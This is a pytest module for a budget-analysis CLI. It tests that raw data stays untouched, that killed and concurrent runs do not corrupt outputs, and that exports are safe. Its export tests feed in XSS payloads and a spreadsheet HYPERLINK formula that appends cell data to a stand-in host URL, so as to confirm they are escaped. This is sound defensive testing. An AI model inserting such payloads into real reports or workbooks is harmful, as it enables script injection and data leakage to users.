"""Nothing is lost, runs do not corrupt each other, and exports are safe.

* No command writes under data/raw/: the tree is hashed before and after a full run of the
  commands (and around this whole module).
* A run or an ingest killed half-way (SIGKILL) leaves the previous outputs complete and readable.
* Two runs of one year at once, and parallel runs beside ingests, finish without corrupting
  each other (tests/run/test_notebook.py does the same with tiny fixture notebooks; here it is the
  real CLI and the real annual notebook).
* Text from the data is escaped in the HTML report and written as text, never as a formula,
  in the exported workbook.

Every command runs in a process of its own as a user would run it; outputs go to tmp_path. The commands run to
their end are forked from one process that imported their libraries once (tests/limited_runs.py); those killed or
run beside others are each a new Python.
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import openpyxl
import pytest
from limited_runs import Run, run_module
from spreadsheetml import write_xlsx
from workbooks import make_workbook

from qdanalysis.paths import DATA_RAW, PROJECT_ROOT
from qdanalysis.read.store import MANIFEST, read_processed

pytestmark = pytest.mark.slow  # whole runs of the CLI (kernels), killed and concurrent


REPORT = "1.0-annual-report"
RAW_2020 = DATA_RAW / "2020"


def cli_env() -> dict[str, str]:
    return dict(os.environ, PYTHONPATH=str(PROJECT_ROOT), PYTHONIOENCODING="utf-8")


def cli(*args: object, cwd: Path) -> subprocess.Popen:
    """A command started in a new Python, to be killed or run beside others."""
    return subprocess.Popen([sys.executable, "-m", "qdanalysis.run.cli", *map(str, args)], cwd=cwd, env=cli_env(),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)


def succeeded(args: object, returncode: int, text: str) -> str:
    """A command's end: it must succeed without a traceback. Returns what it printed."""
    assert returncode == 0, (args, text[-3000:])
    assert "Traceback" not in text and "内部错误" not in text, text[-3000:]
    return text


def finish(proc: subprocess.Popen, timeout: float = 240) -> str:
    """Wait for a command; it must succeed without a traceback. Returns what it printed."""
    try:
        out, err = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        pytest.fail(f"{proc.args} did not finish within {timeout} s")
    return succeeded(proc.args, proc.returncode, out.decode() + err.decode())


def forked(*args: object, cwd: Path, timeout: float = 240) -> Run:
    """``python -m qdanalysis.run.cli ARGS`` run to its end: a process of its own with its arguments, folder and
    environment, forked from one that imported the command's libraries once (tests/limited_runs.py)."""
    return run_module("qdanalysis.run.cli", *args, cwd=cwd, env=cli_env(), timeout=timeout)


def run_cli(*args: object, cwd: Path, timeout: float = 240) -> str:
    run = forked(*args, cwd=cwd, timeout=timeout)
    return succeeded(["qdanalysis", *map(str, args)], run.returncode, run.output)


def kill(proc: subprocess.Popen) -> None:
    """SIGKILL the command and everything it started (the notebook kernel included)."""
    os.killpg(proc.pid, signal.SIGKILL)
    proc.communicate()


def tree_state(root: Path) -> dict[str, tuple]:
    """Every file and folder under ``root``: content hash, size, mode and mtime."""
    state = {}
    for path in sorted(root.rglob("*")):
        st = path.lstat()
        rel = path.relative_to(root).as_posix()
        if path.is_file():
            state[rel] = (hashlib.sha256(path.read_bytes()).hexdigest(), st.st_size, st.st_mode, st.st_mtime_ns)
        else:
            state[rel] = ("dir", st.st_mode)
    return state


@pytest.fixture(scope="module", autouse=True)
def raw_untouched():
    """Whatever the tests of this module run, data/raw/ ends as it began."""
    before = tree_state(DATA_RAW)
    yield
    assert tree_state(DATA_RAW) == before


# --------------------------------------------------------------------------- outputs


def assert_report_complete(folder: Path) -> None:
    """The executed notebook is valid and the HTML is whole; no temporary file is left."""
    nb = nbformat.read(folder / f"{REPORT}.ipynb", as_version=4)
    nbformat.validate(nb)
    assert not nb.metadata.get("papermill", {}).get("exception"), "the report run failed"
    html = (folder / f"{REPORT}.html").read_text(encoding="utf-8")
    assert html.rstrip().endswith("</html>")
    assert "一、项目概况" in html and "数据核对" in html  # the first section and the last
    leftovers = [p.name for p in folder.iterdir() if p.name.startswith(".")]
    assert not leftovers, leftovers


def assert_ingest_consistent(out_dir: Path) -> dict:
    """manifest.json is whole, names every table, and every parquet file is the one it hashed."""
    manifest = json.loads((out_dir / MANIFEST).read_text(encoding="utf-8"))
    for name, info in manifest["tables"].items():
        path = out_dir / info["file"]
        assert hashlib.sha256(path.read_bytes()).hexdigest() == info["sha256"], f"{name}: file and manifest differ"
        assert len(read_processed(manifest["year"], name, out_dir.parent)) == info["rows"]
    return manifest


def copy_year(root: Path, year: int) -> Path:
    """The 2020 workbook as ``<root>/<year>/``; for another year its 短信结算 months are moved
    into that year (months outside the evaluated year are refused)."""
    folder = root / str(year)
    folder.mkdir(parents=True, exist_ok=True)
    for f in RAW_2020.iterdir():
        shutil.copy2(f, folder / f.name)
        if year != 2020 and f.suffix == ".xlsx":
            from mutants import Book

            book = Book(f)
            sms = book.sheet_parts()["短信结算"]
            book.set_text(sms, book.text(sms).replace("<t>2020年", f"<t>{year}年"))
            book.write(folder / f.name)
    return folder


# --------------------------------------------------------------------------- data/raw


@pytest.fixture(scope="module")
def commands_run(tmp_path_factory) -> tuple[dict[str, tuple], Path]:
    """Every command run once, as a user would, in a folder of its own: (data/raw's state before, the folder). The
    report it made is also the previous report of :func:`test_killed_run_leaves_the_previous_report`."""
    before = tree_state(DATA_RAW)
    folder = tmp_path_factory.mktemp("commands")
    run_cli("validate", RAW_2020, cwd=folder)
    run_cli("ingest", "--year", 2020, "--out", folder / "processed", cwd=folder)
    run_cli("summary", "--year", 2020, cwd=folder)
    run_cli("template", folder / "模板.xlsx", cwd=folder)
    run_cli("export", "--year", 2020, folder / "2020年分析.xlsx", cwd=folder)
    run_cli("run", "--year", 2020, "--out", folder / "reports", cwd=folder)
    return before, folder


def test_no_command_writes_under_data_raw(commands_run):
    before, folder = commands_run

    assert tree_state(DATA_RAW) == before
    assert_ingest_consistent(folder / "processed" / "2020")
    assert_report_complete(folder / "reports" / "2020")
    assert (folder / "模板.xlsx").exists() and (folder / "2020年分析.xlsx").exists()


@pytest.mark.parametrize("args", [
    pytest.param(["ingest", "--year", "2020", "--out", "{raw}"], id="ingest"),
    pytest.param(["template", "{raw}/模板.xlsx"], id="template"),
    pytest.param(["export", "--year", "2020", "{raw}/分析.xlsx"], id="export"),
    pytest.param(["run", "--year", "2020", "--out", "{raw}/reports"], id="run"),
    pytest.param(["demo", "--out", "{raw}/demo"], id="demo"),
])
def test_outputs_aimed_at_data_raw_are_refused(args, tmp_path):
    before = tree_state(DATA_RAW)
    run = forked(*[a.format(raw=DATA_RAW) for a in args], cwd=tmp_path)
    text = run.output

    assert tree_state(DATA_RAW) == before  # whatever the message: nothing was written
    assert "Traceback" not in text, text
    assert run.returncode == 1 and "data/raw" in text and "内部错误" not in text, text


# --------------------------------------------------------------------------- killed runs


def test_killed_run_leaves_the_previous_report(commands_run, tmp_path):
    out = tmp_path / "reports"
    shutil.copytree(commands_run[1] / "reports", out, symlinks=True)  # a report and its run's folder, as run left them
    folder = out / "2020"
    assert_report_complete(folder)
    before = {p.name: p.read_bytes() for p in folder.iterdir() if not p.name.startswith(".")}

    proc = cli("run", "--year", 2020, "--out", out, cwd=tmp_path)
    deadline = time.monotonic() + 120
    # papermill saves the notebook after each cell: kill once the new run has executed some.
    while not any(p.name.startswith(f".{REPORT}.ipynb.") and p.stat().st_size > 0 for p in folder.iterdir()):
        assert proc.poll() is None and time.monotonic() < deadline, "the second run never started writing"
        time.sleep(0.05)
    time.sleep(0.5)
    kill(proc)

    assert {p.name: p.read_bytes() for p in folder.iterdir() if not p.name.startswith(".")} == before
    nbformat.validate(nbformat.read(folder / f"{REPORT}.ipynb", as_version=4))
    assert (folder / f"{REPORT}.html").read_text(encoding="utf-8").rstrip().endswith("</html>")


def budget_year(root: Path, n: int, budget_each: int) -> Path:
    """``root/2031/预算.xlsx``: a budget of ``n`` items."""
    rows = [["单位：元"], ["编号", "类别", "项目名称", "预算数", "执行数"]]
    rows += [[str(i), f"类别{i % 7}", f"项目{i}", budget_each, budget_each // 2] for i in range(n)]
    return write_xlsx(root / "2031" / "预算.xlsx", {"预算执行": rows})


def ingest_once(tmp_path: Path, n: int) -> tuple[Path, Path, dict]:
    """A year of ``n`` budget items ingested once: (raw root, output root, manifest)."""
    root, out = tmp_path / "raw", tmp_path / "processed"
    budget_year(root, n, 100)
    run_cli("ingest", "--year", 2031, "--root", root, "--out", out, cwd=tmp_path)
    return root, out, assert_ingest_consistent(out / "2031")


def test_ingest_killed_at_random_moments_leaves_complete_outputs(tmp_path):
    root, out, first = ingest_once(tmp_path, 40_000)  # a few seconds of work to interrupt
    files = {info["file"]: (out / "2031" / info["file"]).read_bytes() for info in first["tables"].values()}
    rng = random.Random(2031)
    for _ in range(3):
        proc = cli("ingest", "--year", 2031, "--root", root, "--out", out, "--force", cwd=tmp_path)
        time.sleep(rng.uniform(0.2, 2.5))
        kill(proc)
        manifest = assert_ingest_consistent(out / "2031")  # whole, readable, and agreeing with the files
        assert manifest["tables"] == first["tables"]  # same sources: the same tables
        assert {f: (out / "2031" / f).read_bytes() for f in files} == files
    leftovers = [p.name for p in (out / "2031").iterdir() if p.name.startswith(".")]
    run_cli("ingest", "--year", 2031, "--root", root, "--out", out, cwd=tmp_path)  # the next one still works
    assert_ingest_consistent(out / "2031")
    print(f"temporary files left by the killed ingests: {leftovers}")


KILL_BEFORE_MANIFEST = textwrap.dedent("""
    import os, signal, sys
    import qdanalysis.run.ingest as ingest
    write_text = ingest.write_text
    def killed(path, text):
        if str(path).endswith("manifest.json"):
            os.kill(os.getpid(), signal.SIGKILL)  # the moment after the tables, before the manifest
        return write_text(path, text)
    ingest.write_text = killed
    ingest.ingest(int(sys.argv[1]), sys.argv[2], sys.argv[3], force=True)
""")


def test_ingest_killed_between_tables_and_manifest_keeps_the_previous_set(tmp_path):
    root, out, _ = ingest_once(tmp_path, 10)
    budget_year(root, 10, 200)  # the sources change: new tables
    (tmp_path / "kill_before_manifest.py").write_text(KILL_BEFORE_MANIFEST, encoding="utf-8")
    run = run_module("kill_before_manifest", "2031", root, out, cwd=tmp_path, env=cli_env(), timeout=240)
    assert run.returncode == -signal.SIGKILL, run.stderr[-2000:]

    assert_ingest_consistent(out / "2031")


# --------------------------------------------------------------------------- concurrent runs


def test_two_runs_of_one_year_at_once(tmp_path):
    out = tmp_path / "reports"
    procs = [cli("run", "--year", 2020, "--out", out, cwd=tmp_path) for _ in range(2)]
    for proc in procs:
        finish(proc)

    assert_report_complete(out / "2020")
    assert sorted(p.name for p in (out / "2020").iterdir()) == [f"{REPORT}.html", f"{REPORT}.ipynb"]
    assert sorted(p.name for p in (out / ".runs" / "2020").iterdir()) == [f"{REPORT}.kernel.log", "run.lock"]


def test_parallel_runs_beside_ingests(tmp_path):
    root = tmp_path / "raw"
    for year in (2020, 2021):
        copy_year(root, year)
    reports, processed = tmp_path / "reports", tmp_path / "processed"

    procs = [cli("run", "--all", "--root", root, "--out", reports, "--jobs", 2, cwd=tmp_path),
             cli("ingest", "--year", 2020, "--root", root, "--out", processed, cwd=tmp_path),
             cli("ingest", "--year", 2020, "--root", root, "--out", processed, "--force", cwd=tmp_path),
             cli("ingest", "--year", 2021, "--root", root, "--out", processed, cwd=tmp_path)]
    outputs = [finish(proc) for proc in procs]

    assert "成功 2，失败 0" in outputs[0]
    for year in (2020, 2021):
        assert_report_complete(reports / str(year))
        manifest = assert_ingest_consistent(processed / str(year))
        assert manifest["totals"]["budget"] == "9410000.00"
        assert not [p.name for p in (processed / str(year)).iterdir() if p.name.startswith(".")]


# --------------------------------------------------------------------------- exports


PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "img": "<img src=x onerror=alert(2)>",
    "attribute": 'A" onmouseover="alert(3)" x="',
    "markdown link": "[点我](javascript:alert(4))",
    "formula": '=HYPERLINK("http://example.invalid/?"&A1,"点我")',
}
CATEGORY_PAYLOAD = "</table><script>alert(5)</script>"


@pytest.fixture(scope="module")
def hostile_year(tmp_path_factory) -> Path:
    """A year whose item names, category, vendor and notes try to become code."""
    root = tmp_path_factory.mktemp("hostile") / "raw"
    names = list(PAYLOADS.values())
    budget = [["单位：万元"], ["编号", "类别", "项目名称", "预算数", "执行数", "备注"]]
    budget += [[f"1.{i + 1}", CATEGORY_PAYLOAD if i == 0 else "运维", name, 10 + i, 9 + i, PAYLOADS["img"]]
               for i, name in enumerate(names)]
    budget.append([None, "合计", None, sum(10 + i for i in range(len(names))), sum(9 + i for i in range(len(names)))])
    contracts = [["单位：元"], ["合同编号", "项目名称", "供应商", "签订日期", "合同金额", "服务内容"]]
    contracts += [[f"HT-{i}", name, PAYLOADS["formula"] if i % 2 else PAYLOADS["script"], "2031-03-01", 90_000,
                   PAYLOADS["attribute"]] for i, name in enumerate(names)]
    make_workbook(root / "2031" / "预算.xlsx", {"预算执行": budget, "合同台账": contracts})
    return root


class Elements(HTMLParser):
    """Every start tag with its attributes, and the text of every script element."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self._in_script = True
            self.scripts.append("")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data


def test_html_report_escapes_text_from_the_data(hostile_year, tmp_path):
    from qdanalysis.run.runner import run_year

    result = run_year(2031, out=tmp_path / "reports", root=hostile_year)

    assert result.ok, result.error
    html = result.html.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, as text
    parsed = Elements()
    parsed.feed(html)
    assert not [s for s in parsed.scripts if "alert(" in s], "a script from the data runs"
    for tag, attrs in parsed.tags:
        for name, value in attrs.items():
            assert not (name.startswith("on") and "alert" in (value or "")), (tag, name, value)
            assert not (value or "").strip().lower().startswith("javascript:"), (tag, name, value)
        assert not (tag == "img" and attrs.get("src") == "x"), "an image from the data is loaded"
        assert "onmouseover" not in attrs, (tag, attrs)


def test_exported_workbook_writes_text_from_the_data_as_text(hostile_year, tmp_path):
    out = tmp_path / "2031年分析.xlsx"
    run_cli("export", "--year", 2031, out, "--root", hostile_year, cwd=tmp_path)

    book = openpyxl.load_workbook(out)
    formulas = [(ws.title, c.coordinate, c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert not formulas
    texts = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any("HYPERLINK" in t for t in texts) and any("<script>" in t for t in texts)  # kept, as text


def test_export_of_text_with_control_characters(tmp_path):
    root = tmp_path / "raw"
    rows = [["单位：元"], ["类别", "项目名称", "预算数", "执行数"], ["运维", "响铃_x0007_项目", 100, 90]]
    write_xlsx(root / "2031" / "预算.xlsx", {"预算执行": rows})  # Excel's escape for the BEL character

    run_cli("export", "--year", 2031, tmp_path / "分析.xlsx", "--root", root, cwd=tmp_path)
